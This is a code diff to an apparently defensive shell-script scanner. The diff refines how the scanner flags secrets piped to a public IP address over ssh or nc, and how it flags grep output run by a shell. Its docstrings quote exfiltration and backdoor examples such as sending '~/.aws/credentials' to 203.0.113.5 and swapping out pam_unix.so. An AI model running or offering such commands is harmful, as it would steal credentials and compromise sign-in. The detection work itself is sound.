@@ -24,10 +24,10 @@ spelling differs from the text the patterns read (requoted, escaped quotes, a pr
 string literal) is cited at the string that holds it. A pipeline from a command that issues a
 new cloud or cluster secret (`az ad sp credential reset`, `kubectl create token`) into an
 upload of its standard input reads a secret and sends it; a later stage that sends its
-standard input to another host (`| ssh HOST 'cat > f'`, `| nc HOST PORT`) uploads what the
-pipeline makes, as `scp` does; `touch` giving a system file
-another file's times or a date is read with its targets, and a file of another name copied
-in place of the system's sign-in module or program (`pam_unix.so`, `sshd`) is read as such.
+standard input to a host named by its public address (`| ssh 203.0.113.5 'cat > f'`, `| nc
+203.0.113.5 PORT`, `ssh ADDRESS 'cat > f' < FILE`) uploads a secret that the stages before it
+read by their own arguments; `touch` giving a system file another file's times or a date is
+read with its targets.
 """
 
 from __future__ import annotations
@@ -41,7 +41,7 @@ from collections.abc import Callable, Sequence
 from dataclasses import dataclass
 from typing import TYPE_CHECKING
 
-from redline.redlines.capabilities import PATTERNS, Capability, Hit
+from redline.redlines.capabilities import PATTERNS, PRIVATE_IPV4, Capability, Hit
 from redline.redlines.grammars import CodeLanguage, parse
 from redline.redlines.named import name_written
 
@@ -100,32 +100,29 @@ _SYSTEM_FILES = (
 _TOUCH_TIME_FLAGS = frozenset({"-r", "--reference", "-d", "--date", "-t"})
 
 
-_SIGN_IN_FILE = re.compile(
-    r"(?:[^\s:/]+:)?/(?:usr/)?lib(?:64|32)?/(?:[\w.-]+/)?security/(pam_unix\.so)"
-    r"|(?:[^\s:/]+:)?/(?:usr/)?s?bin/(sshd|login|su|sudo|passwd)"
+_SECRETS_SENT = (
+    Capability.SECRET_FILE,
+    Capability.BROWSER_STORE,
+    Capability.TOKEN_STORE,
 )
-"""Where the system checks passwords: PAM's `pam_unix.so` (in a container too, `t:/lib/...`),
-the SSH server and the sign-in programs."""
-_FILE_COPIERS = frozenset({"cp", "mv", "install"})
+"""What a stage of a pipeline may read that is a secret to send: keys and cloud credentials,
+browsers' saved logins and cookies, applications' token stores."""
 
 
-def _sign_in_replaced(name: str, words: list[str]) -> bool:
-    """`cp ./libpam_x.so /lib/x86_64-linux-gnu/security/pam_unix.so`, `docker cp ./x.so
-    t:/lib/.../pam_unix.so`, `mv /tmp/.s /usr/sbin/sshd`: a file of another name put where the
-    system checks passwords. The module or program's own file put back (a build's
-    `pam_unix.so`, a backup `sshd.orig`) keeps its name."""
-    if name in ("docker", "podman", "kubectl") and words[:1] == ["cp"]:
-        words = words[1:]
-    elif name not in _FILE_COPIERS:
-        return False
-    paths = [word for word in words if not word.startswith("-")]
-    if len(paths) < 2:
-        return False
-    target = _SIGN_IN_FILE.fullmatch(paths[-1])
-    if target is None:
-        return False
-    kept = target.group(1) or target.group(2)
-    return not any(path.rsplit("/", 1)[-1].startswith(kept) for path in paths[:-1])
+def _reads_secret(text: str) -> bool:
+    """Whether a command's own text names a secret (`_SECRETS_SENT`'s patterns)."""
+    return any(pattern.search(text) for secret in _SECRETS_SENT for pattern in PATTERNS[secret])
+
+
+def _ssh_host(words: list[str]) -> str | None:
+    """The host `ssh`'s words name (past its options and their values, a `user@` dropped)."""
+    index = 0
+    while index < len(words) and words[index].startswith("-"):
+        flag = words[index]
+        index += 2 if len(flag) == 2 and flag[1] in _SSH_VALUED else 1
+    if index >= len(words):
+        return None
+    return words[index].rsplit("@", 1)[-1]
 
 
 def _backdates_system_file(words: list[str]) -> bool:
@@ -146,9 +143,18 @@ def _backdates_system_file(words: list[str]) -> bool:
 
 _STDIN_BODY = re.compile(r"(?:^|=)@(?:-|/dev/stdin)$")
 """An upload's body named as what it reads on standard input (`curl -d @-`, `-F f=@-`)."""
-_STDIN_TO_FILE = re.compile(r"\s{0,8}(?:cat\s{0,8}>|dd\s[^|;&]{0,120}?\bof=|tee\s)")
+_STDIN_TO_FILE = re.compile(
+    r"(?:^|[;&|(]|\s)(?:cat\s{0,8}(?:-\s{0,8})?>|tee\s|dd\s[^|;&\n]{0,120}?\bof="
+    r"|base64\s{1,8}(?:-d|--decode|-D)\s{0,8}>)"
+)
 """A remote command that writes what it reads on standard input to a file (`cat > f`,
-`cat >> f`, `dd of=f`, `tee f`)."""
+`cat - >> f`, `sudo tee f`, `dd of=f`, `base64 -d > f`), anywhere in it (`mkdir -p d; cat >
+d/f`)."""
+_PUBLIC_ADDRESS = re.compile(rf"(?!127\.|0\.|{PRIVATE_IPV4})\d{{1,3}}(?:\.\d{{1,3}}){{3}}")
+"""A public IPv4 address (not loopback, private or unspecified): a host named only by its
+address, that no inventory or SSH configuration of one's own names."""
+_SSHPASS_VALUED = frozenset({"-p", "-f", "-d", "-P"})
+"""sshpass's options that take a value (`sshpass -p PASSWORD ssh ...`)."""
 _RAW_SENDERS = frozenset({"nc", "ncat", "netcat"})
 """Network clients that send what they read on standard input to the host they name."""
 _LISTENS = re.compile(r"-[a-zA-Z]*[lzL]|--listen|--zero")
@@ -822,8 +828,6 @@ class _Reader:
             self.hit(Capability.ROOT_DELETE, node)
         elif name == "find" and (destroyed := _found_and_destroyed(words)) is not None:
             self.hit(destroyed, node)
-        if _sign_in_replaced(name, words):
-            self.hit(Capability.SIGN_IN_REPLACED, node)
         if name == "touch" and _backdates_system_file(words):
             self.hit(Capability.SYSTEM_FILE_BACKDATED, node)
         if _injects_into_other_site(name, words):
@@ -851,10 +855,19 @@ class _Reader:
             self.nested(line.group(1), node, line.start(1))
 
     def redirected(self, node: Node) -> None:
-        """A heredoc fed to a shell or a scheduler (`at now + 1 minute <<EOF`) is its script."""
+        """A heredoc fed to a shell or a scheduler (`at now + 1 minute <<EOF`) is its script;
+        a secret fed to an upload to another host (`ssh 203.0.113.5 'cat > f' < ~/.aws/credentials`)
+        is sent, as when piped (`_piped_to_another_host`)."""
         body = node.child_by_field_name("body")
         if body is None or body.type != "command":
             return
+        if any(
+            child.type == "file_redirect"
+            and self._text(child).lstrip("0").startswith("<")
+            and _reads_secret(self._text(child))
+            for child in node.children
+        ) and self._sends_to_address(body):
+            self.hit(Capability.NET_SEND, body)
         runner = _stdin_runner(body, self.source)
         if runner is None:
             return
@@ -955,24 +968,48 @@ class _Reader:
                     return
 
     def _piped_to_another_host(self, names: list[str], stages: list[Node]) -> None:
-        """A later stage that sends what it reads on standard input to another host: `ssh HOST
-        'cat > FILE'` (or `dd of=FILE`, `tee FILE`) writes it there, `nc HOST PORT` sends it.
-        What the pipeline makes is uploaded, as by `scp` (`NET_SEND`); a listener (`nc -l`) or
-        a port check (`nc -z`) sends nothing."""
-        for name, stage in zip(names[1:], stages[1:], strict=True):
-            arguments = _unwrapped(stage, self.source)[1]
-            if name == "ssh":
-                remote = _command_argument(name, arguments)
-                sends = remote is not None and _STDIN_TO_FILE.match(remote[0]) is not None
-            else:
-                words = [word for word, _ in arguments]
-                sends = (
-                    name in _RAW_SENDERS
-                    and any(not word.startswith("-") for word in words)
-                    and not any(_LISTENS.match(word) for word in words)
-                )
-            if sends:
-                self.hit(Capability.NET_SEND, stage)
+        """A later stage that sends what it reads on standard input to a host named only by its
+        public address (`ssh 203.0.113.5 'cat > FILE'`, also after `sshpass -p PW`, `tee`,
+        `dd of=`, `base64 -d >`; `nc 203.0.113.5 PORT`), fed by stages whose own arguments
+        read a secret (`cat ~/.aws/credentials`, `tar czf - ~/.ssh`): the secret uploaded
+        as by `scp` (`NET_SEND`). What the far side writes to is not read (a key put in place
+        there is no secret read here); a host of one's own named by its name (`ssh jump 'cat >
+        ~/.kube/config'`) is a copy between one's own machines, as `scp` to it is; a listener
+        (`nc -l`) or a port check (`nc -z`) sends nothing."""
+        for index in range(1, len(stages)):
+            if self._sends_to_address(stages[index]) and any(
+                _reads_secret(self._text(stage)) for stage in stages[:index]
+            ):
+                self.hit(Capability.NET_SEND, stages[index])
+                return
+
+    def _sends_to_address(self, stage: Node) -> bool:
+        """Whether `stage` sends its standard input to a public address: `ssh ADDRESS 'cat >
+        f'` (past `sshpass`), `nc ADDRESS PORT`."""
+        name, arguments = _unwrapped(stage, self.source)
+        if name == "sshpass":
+            while arguments and arguments[0][0].startswith("-"):
+                flag, arguments = arguments[0][0], arguments[1:]
+                if flag in _SSHPASS_VALUED and arguments:
+                    arguments = arguments[1:]
+            if not arguments:
+                return False
+            name, arguments = arguments[0][0].rsplit("/", 1)[-1], arguments[1:]
+        words = [word for word, _ in arguments]
+        if name == "ssh":
+            remote = _command_argument(name, arguments)
+            if remote is None or _STDIN_TO_FILE.search(remote[0]) is None:
+                return False
+            host = _ssh_host(words)
+            return host is not None and _PUBLIC_ADDRESS.fullmatch(host) is not None
+        return (
+            name in _RAW_SENDERS
+            and not any(_LISTENS.match(word) for word in words)
+            and any(_PUBLIC_ADDRESS.fullmatch(word) for word in words)
+        )
+
+    def _text(self, node: Node) -> str:
+        return self.source[node.start_byte : node.end_byte].decode("utf-8", "replace")
 
     def _printed_in(self, group: Node, runner: str) -> None:
         """Feed `runner` the strings printed by `echo` or `printf` anywhere in `group`."""
@@ -1010,8 +1047,15 @@ class _Reader:
 
     def reference(self, node: Node) -> None:
         """Search and kill commands (`grep 'xmrig'`, `pkill -f minerd`): their arguments name
-        a thing to find or stop, they are not run."""
-        if self.ascii and _command_name(node, self.source) in _SEARCHERS:
+        a thing to find or stop, they are not run; unless a command in them is substituted
+        (`grep "$(curl ... | sh)" f` runs it) or what the search prints is piped into a shell
+        (`grep -h 'curl ... | sh' notes | sh` runs the lines found)."""
+        if (
+            self.ascii
+            and _command_name(node, self.source) in _SEARCHERS
+            and not _substitutes(node)
+            and not _piped_to_shell(node, self.source)
+        ):
             name = node.child_by_field_name("name")
             start = name.end_byte if name is not None else node.start_byte
             self.references.append((start, node.end_byte))
@@ -1035,6 +1079,29 @@ class _Reader:
 def shell_hits(script: str, offset: int = 0, depth: int = 0) -> list[Hit]:
     """Structural capabilities of a shell script (already cleaned of comments)."""
     return read_shell(script, offset, depth)[0]
+
+
+def _substitutes(node: Node) -> bool:
+    """Whether `node` holds a command or process substitution (`$(...)`, `` `...` ``, `<(...)`)."""
+    stack = list(node.children)
+    while stack:
+        child = stack.pop()
+        if child.type in ("command_substitution", "process_substitution"):
+            return True
+        stack.extend(child.children)
+    return False
+
+
+_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "source", "."})
+
+
+def _piped_to_shell(node: Node, source: bytes) -> bool:
+    """Whether `node` is a stage of a pipeline that a later stage runs as a shell (`| sh`)."""
+    parent = node.parent
+    if parent is None or parent.type != "pipeline":
+        return False
+    later = [c for c in parent.children if c.start_byte > node.start_byte and c.type == "command"]
+    return any(_command_name(stage, source) in _SHELLS for stage in later)
 
 
 _SEARCHERS = frozenset({"grep", "egrep", "fgrep", "rg", "pgrep", "pkill", "killall", "ps", "ag"})
